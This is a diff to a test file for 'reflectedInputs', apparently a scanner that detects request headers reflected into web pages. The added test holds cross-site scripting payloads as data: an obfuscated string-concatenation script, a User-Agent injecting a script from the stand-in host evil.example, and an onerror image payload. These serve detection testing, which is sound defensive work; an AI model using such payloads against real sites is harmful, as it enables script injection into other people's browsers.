@@ -251,10 +251,28 @@ describe('reflectedInputs', () => {
     for (const coding of ['gzip', 'br', 'deflate']) expect(await reflectedInputs(inputs, { 'content-encoding': coding, etag: '"v1"' }, Buffer.alloc(0), 0), coding).toEqual([]);
   });
 
-  it('does not split a User-Agent, nor look for texts without three letters or digits in a row', async () => {
-    const page = Buffer.from('<a href="/setup-x64.exe">Win64 x64</a> u=0');
+  it('does not split a browser\'s User-Agent, nor look for short texts without three letters or digits in a row', async () => {
+    const page = Buffer.from('<a href="/setup-x64.exe">Win64 x64</a> u=0 v1.2.3 (a)');
     expect(await reflectedInputs([['user-agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36']], {}, page, MAX)).toEqual([]);
     expect(await reflectedInputs([['x-a', 'u=0']], {}, page, MAX)).toEqual([]);
+    expect(await reflectedInputs([['x-v', '1.2.3']], {}, page, MAX)).toEqual([]);
+  });
+
+  it('looks for a host or a script without a run of three letters or digits, and for a User-Agent\'s parts that carry markup (attacker trial)', async () => {
+    // A script host of short numbers, in a src attribute.
+    const host = Buffer.from('<script src="//12.34.56.78/app.js"></script>');
+    expect(await reflectedInputs([['x-asset-base', '//12.34.56.78']], {}, host, MAX)).toEqual(['x-asset-base']);
+    // Script without a run of three, in a User-Agent an origin writes into a script, HTML-escaped.
+    const js = `';[]["fi"+"lt"+"er"]["co"+"ns"+"tr"+"uc"+"to"+"r"]("al"+"er"+"t(do"+"cu"+"me"+"nt.do"+"ma"+"in)")();//`;
+    const page = Buffer.from(`<script>var v='${js.replace(/"/g, '&quot;')}';</script>`);
+    expect(await reflectedInputs([['user-agent', js]], {}, page, MAX)).toEqual(['user-agent']);
+    // One part of a User-Agent, printed alone.
+    const ua = 'Mozilla/5.0 (X11; <script src=//evil.example/x.js></script>; rv:128.0) Gecko';
+    const part = Buffer.from('<p>Platform: <script src=//evil.example/x.js></script></p>');
+    expect(await reflectedInputs([['user-agent', ua]], {}, part, MAX)).toEqual(['user-agent']);
+    // A word of it, as a parser that takes `Chrome/(\S+)` prints it.
+    const word = 'Mozilla/5.0 Chrome/"><img/src/onerror=alert(1)> Safari/537.36';
+    expect(await reflectedInputs([['user-agent', word]], {}, Buffer.from('<b>Chrome/"><img/src/onerror=alert(1)></b>'), MAX)).toEqual(['user-agent']);
   });
 });
 
